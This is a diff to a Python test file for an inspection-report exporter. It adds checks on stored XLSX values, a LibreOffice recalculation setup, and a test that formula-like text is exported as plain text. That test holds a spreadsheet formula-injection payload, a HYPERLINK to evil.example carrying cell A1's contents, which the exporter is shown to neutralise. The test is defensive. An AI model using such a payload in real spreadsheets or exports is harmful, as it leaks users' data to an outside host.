@@ -132,6 +132,28 @@ def test_xlsx_has_a_sheet_per_section_with_formulas_and_formats(db, history, tmp
     cases_sheet = wb["B. Vụ việc"]
     assert cases_sheet["B2"].number_format == "DD/MM/YYYY HH:MM"
     assert len(wb["Biểu đồ"]._charts) == 1
+    # A viewer that does not recalculate shows the values stored beside the formulas: they must be right too.
+    stored = load_workbook(path, data_only=True)["C. Tổng hợp"]
+    want = expected(history, {"HUU_NGHI", "CHI_MA"}, date(2026, 3, 1), date(2026, 3, 10))
+    assert stored["B5"].value == sum(f.cases for f in want.values())
+    assert stored["C5"].value == sum(f.fines_vnd for f in want.values())
+    assert [stored.cell(row, 10).value for row in (2, 3, 4)] == [
+        report.summary.change(c, "cases") for c in cases.CATEGORIES]
+
+
+def test_text_that_looks_like_a_formula_stays_text(db, tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Sữa bột")'
+    inspection = inspections.start(db, inspections.NewInspection(gate="CHI_MA", direction="import", plates=("X",),
+                                                                 declared_goods=hostile),
+                                   author="a", tz=TZ, on=date(2026, 3, 4))
+    inspections.record_verdict(db, inspection, "cleared", "", author="a")
+    report = reports.build(db, None, date(2026, 3, 4), date(2026, 3, 4), TZ)
+    path = tmp_path / "report.xlsx"
+    path.write_bytes(report_formats.to_xlsx(report))
+    cell = load_workbook(path)["D. Nhật ký"]["G2"]
+    assert (cell.value, cell.data_type) == (hostile, "s")
+    rows = list(csv.reader(io.StringIO(report_formats.to_csv(report).decode("utf-8-sig"))))
+    assert rows[-1][6] == "'" + hostile
 
 
 @pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is installed by scripts/test")
@@ -139,7 +161,13 @@ def test_libreoffice_computes_the_same_totals_as_an_independent_count(db, histor
     start, end = date(2026, 3, 1), date(2026, 3, 10)
     report = reports.build(db, None, start, end, TZ)
     (tmp_path / "report.xlsx").write_bytes(report_formats.to_xlsx(report))
-    # The sheet's totals are formulas: only a spreadsheet program computes them.
+    # The sheet's totals are formulas: only a spreadsheet program computes them. LibreOffice is told to
+    # recalculate on load, so what is compared is its computation, not the values stored beside the formulas.
+    (tmp_path / "lo" / "user").mkdir(parents=True)
+    (tmp_path / "lo" / "user" / "registrymodifications.xcu").write_text(
+        '<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor="http://openoffice.org/2001/registry">'
+        '<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">'
+        '<value>0</value></prop></item></oor:items>', encoding="utf-8")
     subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
                     'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3',
                     "--outdir", str(tmp_path), str(tmp_path / "report.xlsx")],
